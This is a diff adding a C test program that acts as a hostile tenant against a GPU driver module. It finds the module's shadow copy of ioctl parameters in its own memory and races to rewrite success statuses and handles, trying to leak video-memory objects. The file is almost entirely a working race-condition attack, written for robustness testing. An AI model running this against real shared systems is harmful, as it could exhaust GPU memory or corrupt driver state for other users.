@@ -1,0 +1,266 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * A hostile tenant rewriting the results the driver leaves in the module's
+ * shadow of its params (tests/vm/hostile, issue 10 item 7).
+ *
+ *   attack_shadow FD CLIENT PARENT SIZE MIN_S MAX_S ATTEMPTS
+ *
+ * One thread allocates SIZE bytes of video memory under fresh handles of its
+ * own, alternately with RM_ALLOC (NVOS21, NV01_MEMORY_LOCAL_USER) and with
+ * VID_HEAP_CONTROL ALLOC_SIZE (NVOS32), and keeps what it gets (a call whose
+ * results came back rewritten may have made its object too); when refused
+ * it frees the oldest object it holds. Another thread finds the shadow (a
+ * page of its own anonymous mappings that begins with its params, as the
+ * module copied them there) and, whenever the driver has written a status
+ * of 0 there,
+ * writes NV_ERR_NO_MEMORY over it and PARENT's handle over the new handle,
+ * before the module reads the results back. A handle so rewritten before
+ * the driver reads it names a taken handle, so the driver refuses the call:
+ * the race is on the results only.
+ * It runs for at least MIN_S seconds and ATTEMPTS calls (at most MAX_S s),
+ * then prints "attempts N ok N failed N hits N regions N".
+ */
+#include <pthread.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdatomic.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <time.h>
+
+#define NV_IOCTL_MAGIC		'F'
+#define NV_ESC_RM_FREE		0x29
+#define NV_ESC_RM_ALLOC		0x2B
+#define NV_ESC_RM_VID_HEAP	0x4A
+#define NV_ERR_NO_MEMORY	0x51
+#define HANDLE_PROVIDED		0x4000
+/* Largest anonymous mapping searched for the shadow (params at a page start). */
+#define MAX_SCAN		(64UL << 20)
+#define MAX_REGIONS		8
+#define MAX_HELD		4096
+
+struct nvos00 {
+	uint32_t h_root, h_parent, h_old, status;
+};
+
+struct nvos21 {
+	uint32_t h_root, h_parent, h_new, h_class;
+	uint64_t p_alloc_parms;
+	uint32_t params_size, status;
+};
+
+/* NVOS32 with its AllocSize member (184 bytes). */
+struct nvos32 {
+	uint32_t h_root, h_parent, function, h_va_space;
+	int16_t ivc;
+	uint16_t pad0;
+	uint32_t status;
+	uint64_t total, free;
+	uint32_t owner, h_memory, type, flags, attr, format, compr, zcull, stride;
+	uint32_t width, height, pad1;
+	uint64_t size, alignment, offset, limit, address, begin, end;
+	uint32_t attr2, ctag;
+	int32_t numa;
+	uint32_t pad2;
+	unsigned char rest[24];	/* the union is 144 bytes (HwAlloc's) */
+};
+
+_Static_assert(sizeof(struct nvos32) == 184, "NVOS32 is 184 bytes");
+
+static atomic_int stop;
+static atomic_int kind;		/* 21 or 32: the call in flight */
+static atomic_int called;	/* a call has been made: the shadow exists */
+static uint32_t client;		/* CLIENT */
+static uint32_t taken;		/* PARENT: a handle that exists */
+static atomic_ulong hits;
+static char *regions[MAX_REGIONS];
+static atomic_int n_regions;
+/* A page found may be unmapped again (a shadow of one call): start over. */
+static __thread sigjmp_buf lost;
+static __thread volatile sig_atomic_t armed;
+
+static void on_fault(int sig)
+{
+	if (!armed) {
+		signal(sig, SIG_DFL);
+		raise(sig);
+		return;
+	}
+	siglongjmp(lost, 1);
+}
+
+/*
+ * Pages of unnamed rw-p mappings that begin as the tenant's params do
+ * (hRoot, hObjectParent, then class 0x40 or function ALLOC_SIZE), not yet
+ * known: the module's shadow. The tenant's own params are on its stack.
+ */
+static void find_regions(void)
+{
+	char line[512];
+	FILE *f = fopen("/proc/self/maps", "r");
+	int n = atomic_load(&n_regions);
+
+	if (!f)
+		return;
+	while (n < MAX_REGIONS && fgets(line, sizeof(line), f)) {
+		unsigned long lo, hi, off;
+		char perms[8];
+		int i, known, end = 0;
+
+		if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &lo, &hi, perms, &end) < 3)
+			continue;
+		if (hi - lo > MAX_SCAN || strcmp(perms, "rw-p") ||
+		    (line[end] != '\0' && line[end] != '\n'))
+			continue;
+		for (off = lo; off < hi && n < MAX_REGIONS; off += 4096) {
+			volatile uint32_t *p = (volatile uint32_t *)off;
+
+			if (p[0] != client || p[1] != taken || (p[3] != 0x40 && p[2] != 2))
+				continue;
+			known = 0;
+			for (i = 0; i < n; i++)
+				known |= regions[i] == (char *)off;
+			if (!known)
+				regions[n++] = (char *)off;
+		}
+	}
+	fclose(f);
+	atomic_store(&n_regions, n);
+}
+
+static void *rewriter(void *arg)
+{
+	unsigned long scans = 0;
+
+	(void)arg;
+	if (sigsetjmp(lost, 1))
+		atomic_store(&n_regions, 0);
+	armed = 1;
+	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
+		int i, n = atomic_load_explicit(&n_regions, memory_order_relaxed);
+		int k = atomic_load_explicit(&kind, memory_order_relaxed);
+
+		if (!atomic_load_explicit(&called, memory_order_relaxed))
+			continue;
+		if (!(++scans & 0xfffff) || !n)
+			find_regions();
+		for (i = 0; i < n; i++) {
+			volatile uint32_t *p = (volatile uint32_t *)regions[i];
+			unsigned int st = k == 21 ? 7 : 5, h = k == 21 ? 2 : 11;
+
+			if (p[st] == 0) {
+				p[st] = NV_ERR_NO_MEMORY;
+				p[h] = taken;
+				atomic_fetch_add_explicit(&hits, 1, memory_order_relaxed);
+			}
+		}
+	}
+	armed = 0;
+	return NULL;
+}
+
+static double now(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return ts.tv_sec + ts.tv_nsec / 1e9;
+}
+
+int main(int argc, char **argv)
+{
+	unsigned char mem[128] __attribute__((aligned(8)));
+	unsigned long attempts = 0, ok = 0, failed = 0, want;
+	static uint32_t held[MAX_HELD];
+	unsigned int n_held = 0, first = 0;
+	uint32_t parent, h, got;
+	double start, min_s, max_s;
+	struct nvos21 a;
+	struct nvos32 v;
+	struct nvos00 fr;
+	uint64_t size;
+	pthread_t t;
+	int fd, rc;
+
+	if (argc < 8)
+		return 2;
+	fd = atoi(argv[1]);
+	parent = strtoul(argv[3], NULL, 0);
+	taken = parent;
+	size = strtoull(argv[4], NULL, 0);
+	min_s = atof(argv[5]);
+	max_s = atof(argv[6]);
+	want = strtoul(argv[7], NULL, 0);
+
+	client = strtoul(argv[2], NULL, 0);
+	signal(SIGSEGV, on_fault);
+	signal(SIGBUS, on_fault);
+	if (pthread_create(&t, NULL, rewriter, NULL))
+		return 1;
+	start = now();
+	for (;;) {
+		double el = now() - start;
+
+		if (el >= max_s || (el >= min_s && attempts >= want))
+			break;
+		h = 0xA0000000u + attempts;
+		if (attempts & 1) {
+			memset(&v, 0, sizeof(v));
+			v.h_root = client;
+			v.h_parent = parent;
+			v.function = 2;	/* ALLOC_SIZE */
+			v.status = 0xffffffffu;
+			v.h_memory = h;
+			v.flags = HANDLE_PROVIDED;
+			v.size = size;
+			atomic_store(&kind, 32);
+			rc = ioctl(fd, _IOWR(NV_IOCTL_MAGIC, NV_ESC_RM_VID_HEAP, struct nvos32), &v);
+			rc = rc || v.status;
+			got = v.h_memory;
+		} else {
+			memset(mem, 0, sizeof(mem));
+			*(uint64_t *)(mem + 64) = size;	/* NV_MEMORY_ALLOCATION_PARAMS.size */
+			memset(&a, 0, sizeof(a));
+			a.h_root = client;
+			a.h_parent = parent;
+			a.h_new = h;
+			a.h_class = 0x40;
+			a.p_alloc_parms = (uintptr_t)mem;
+			a.params_size = sizeof(mem);
+			a.status = 0xffffffffu;
+			atomic_store(&kind, 21);
+			rc = ioctl(fd, _IOWR(NV_IOCTL_MAGIC, NV_ESC_RM_ALLOC, struct nvos21), &a);
+			rc = rc || a.status;
+			got = a.h_new;
+		}
+		attempts++;
+		atomic_store(&called, 1);
+		/*
+		 * Whatever the status says, an object whose results came back
+		 * rewritten (the new handle is PARENT's) may exist: that is the
+		 * attack. Keep its handle; it is freed in its turn.
+		 */
+		if ((!rc || got == taken) && n_held - first < MAX_HELD)
+			held[n_held++ % MAX_HELD] = h;
+		if (!rc) {
+			ok++;
+			continue;
+		}
+		failed++;
+		if (got == taken)
+			continue;	/* rewritten, not refused */
+		/* Refused: free the oldest handle kept. */
+		if (n_held - first > 0) {
+			fr = (struct nvos00){ client, parent, held[first++ % MAX_HELD], 0 };
+			ioctl(fd, _IOWR(NV_IOCTL_MAGIC, NV_ESC_RM_FREE, struct nvos00), &fr);
+		}
+	}
+	atomic_store(&stop, 1);
+	pthread_join(t, NULL);
+	printf("attempts %lu ok %lu failed %lu hits %lu regions %d\n", attempts, ok, failed,
+	       (unsigned long)atomic_load(&hits), atomic_load(&n_regions));
+	return 0;
+}
